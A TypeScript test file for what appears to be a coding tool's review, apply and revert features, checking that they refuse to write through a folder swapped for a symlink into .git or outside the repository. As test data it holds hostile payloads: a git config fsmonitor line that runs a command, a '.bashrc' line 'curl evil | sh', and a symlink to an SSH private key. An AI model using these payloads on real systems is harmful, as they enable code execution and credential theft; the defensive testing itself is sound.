/** Review's apply and revert against a tree changed under them: a folder swapped for a symlink after the check. */
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { tempDir, tempRepo, writeFiles } from '../testing/temp-repo';
import { applyReviewDecision } from './apply-review-decision';
import { createCheckpoint } from './checkpoints';
import { fileContents } from './diff-against';
import { proposeFile, type Proposal } from './proposal';
import { revertAll, revertFile, revertHunks } from './revert';

const read = (root: string, p: string) => fs.readFileSync(path.join(root, p), 'utf8');

/** Replace the folder `x` by a symlink to `target`, as a parallel shell call would. */
function swap(root: string, target: string) {
  fs.renameSync(path.join(root, 'x'), path.join(root, 'x-was'));
  fs.symlinkSync(target, path.join(root, 'x'));
}

describe('review apply through a swapped folder', () => {
  it('refuses x/config once x -> .git, and writes nothing (no other accepted file either)', async () => {
    const root = tempRepo({ 'x/config': 'plain\n', 'a.txt': 'a\n' });
    const gitConfig = read(root, '.git/config');
    const proposal: Proposal = {
      files: [
        proposeFile({ path: 'a.txt', before: Buffer.from('a\n'), after: Buffer.from('A\n') }),
        proposeFile({
          path: 'x/config',
          before: Buffer.from('plain\n'),
          after: Buffer.from('[core]\n\tfsmonitor = touch /var/tmp/pwned\n'),
        }),
      ],
    };
    swap(root, '.git');
    // The file the proposal saw is gone from x's place; .git/config is what would be read and written.
    fs.writeFileSync(path.join(root, '.git', 'config-copy'), gitConfig);
    const result = await applyReviewDecision(root, proposal, { 'a.txt': 'accept', 'x/config': 'accept' });
    expect(result).toMatchObject({
      ok: false,
      error: expect.stringMatching(/symlink stands on its path.*Nothing was written/),
    });
    expect(read(root, '.git/config')).toBe(gitConfig);
    expect(read(root, 'a.txt')).toBe('a\n');
  });

  it('refuses a new file under a folder that became a symlink to outside the root', async () => {
    const root = tempDir();
    const outside = tempDir();
    writeFiles(root, { 'x/keep.txt': 'k\n' });
    const proposal: Proposal = {
      files: [proposeFile({ path: 'x/.bashrc', before: null, after: Buffer.from('curl evil | sh\n') })],
    };
    swap(root, outside);
    const result = await applyReviewDecision(root, proposal, { 'x/.bashrc': 'accept' });
    expect(result).toMatchObject({ ok: false, reason: 'invalid' });
    expect(fs.readdirSync(outside)).toEqual([]);
  });
});

describe('revert through a swapped folder', () => {
  it('revert file, hunks and turn refuse x/config once x -> .git, leaving .git/config alone', async () => {
    const repo = tempRepo({ 'x/config': 'one\ntwo\n' });
    const start = await createCheckpoint(repo, 's');
    fs.writeFileSync(path.join(repo, 'x', 'config'), 'one\nTWO\n');
    const gitConfig = read(repo, '.git/config');
    swap(repo, '.git');
    await expect(revertFile(repo, start, 'x/config')).rejects.toThrow(/symlink stands on its path/);
    await expect(revertHunks(repo, start, 'x/config', [0])).rejects.toThrow();
    expect(read(repo, '.git/config')).toBe(gitConfig);
    // Reverting the whole turn removes the planted link first, then puts the folder back.
    await revertAll(repo, start);
    expect(fs.lstatSync(path.join(repo, 'x')).isDirectory()).toBe(true);
    expect(read(repo, 'x/config')).toBe('one\ntwo\n');
    expect(read(repo, '.git/config')).toBe(gitConfig);
  });

  it('revert file refuses to restore through a folder that became a symlink to outside', async () => {
    const repo = tempRepo({ 'x/.bashrc': 'safe\n' });
    const outside = tempDir();
    fs.writeFileSync(path.join(outside, '.bashrc'), 'the real one\n');
    const start = await createCheckpoint(repo, 's');
    fs.rmSync(path.join(repo, 'x', '.bashrc'));
    swap(repo, outside);
    await expect(revertFile(repo, start, 'x/.bashrc')).rejects.toThrow(/refusing/i);
    expect(read(outside, '.bashrc')).toBe('the real one\n');
  });
});

describe('the review view reads the tree without following links', () => {
  it("shows a link the turn planted as its link text, never the outside file's content", async () => {
    const repo = tempRepo({ 'a.txt': 'a\n' });
    const outside = tempDir();
    fs.writeFileSync(path.join(outside, 'id_ed25519'), 'SECRET-KEY\n');
    const start = await createCheckpoint(repo, 's');
    fs.symlinkSync(path.join(outside, 'id_ed25519'), path.join(repo, 'key'));
    const contents = await fileContents(repo, start.commit, { path: 'key', kind: 'added' });
    expect(contents.new?.toString('utf8')).toBe(path.join(outside, 'id_ed25519'));
  });
});
